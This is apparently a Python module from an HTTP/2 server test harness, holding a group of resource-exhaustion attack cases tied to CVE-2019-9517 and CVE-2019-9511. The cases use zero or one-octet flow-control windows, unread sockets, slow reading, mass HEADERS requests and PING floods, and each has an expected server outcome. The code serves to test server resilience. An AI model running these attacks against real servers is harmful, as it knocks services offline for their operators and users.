"""Responses that are asked for and not taken."""
from corpus import CALM, CLOSED, KEPT, attack
from rawh2_wire import Flag, Setting, Type, frame, u32

GROUP = "holds"
HOLD_S = 0.8


def _ask(link, streams, path=None):
    for stream in range(1, 2 * streams, 2):
        link.send(link.request(stream, path or link.site.big))


@attack("zero windows on 100 large responses", GROUP, (CLOSED, KEPT), "limit_send",
        cve="CVE-2019-9517", settings={Setting.INITIAL_WINDOW_SIZE: 0})
def zero_window(link):
    _ask(link, 100)
    link.wait_end(link.site.short_s * 4)


@attack("windows of one octet, dribbled", GROUP, (CLOSED, KEPT, CALM), cve="CVE-2019-9511",
        settings={Setting.INITIAL_WINDOW_SIZE: 1})
def one_byte_windows(link):
    _ask(link, 100)
    for _ in range(40):
        link.send(b"".join(frame(Type.WINDOW_UPDATE, 0, stream, u32(1))
                           for stream in range(1, 20, 2)), 10)
        link.read_for(0.02)


@attack("open windows, a socket that is never read", GROUP, (CLOSED, KEPT), "limit_send",
        cve="CVE-2019-9517", reading=False, receive_buffer=4096,
        settings={Setting.INITIAL_WINDOW_SIZE: 2**31 - 1})
def unread_socket(link):
    link.frame(Type.WINDOW_UPDATE, 0, 0, u32(2**31 - 1 - 65535))
    _ask(link, 100)
    link.read_for(link.site.short_s * 4)
    link.wait_end(2)


@attack("an octet of one in 120 responses each half limit", GROUP, KEPT, short=True,
        settings={Setting.INITIAL_WINDOW_SIZE: 0})
def slow_reader(link):
    """Never without progress, so it is not let go: 6,000 responses on 50 connections."""
    _ask(link, 120)
    for turn in range(6):
        link.frame(Type.WINDOW_UPDATE, 0, 2 * (turn % 120) + 1, u32(1))
        link.read_for(link.site.short_s / 2)


@attack("the page asked for without end, answers unread", GROUP, (CLOSED, CALM, "GOAWAY PROTOCOL_ERROR"), reading=False)
def unread_answers(link):
    block = link.block(b"/")
    for base in range(1, 40_001, 100):
        link.send(b"".join(frame(Type.HEADERS, Flag.END_STREAM | Flag.END_HEADERS, stream, block)
                           for stream in range(base, base + 100, 2)), 50)
    link.read_for(HOLD_S)


@attack("PINGs below their limit, answers unread", GROUP, ("GOAWAY NO_ERROR", CALM), "limit_idle",
        reading=False, receive_buffer=4096)
def unread_pings(link):
    for _ in range(40):
        link.flood(frame(Type.PING, 0, 0, b"attacked"), 40)
        link.read_for(0.5)
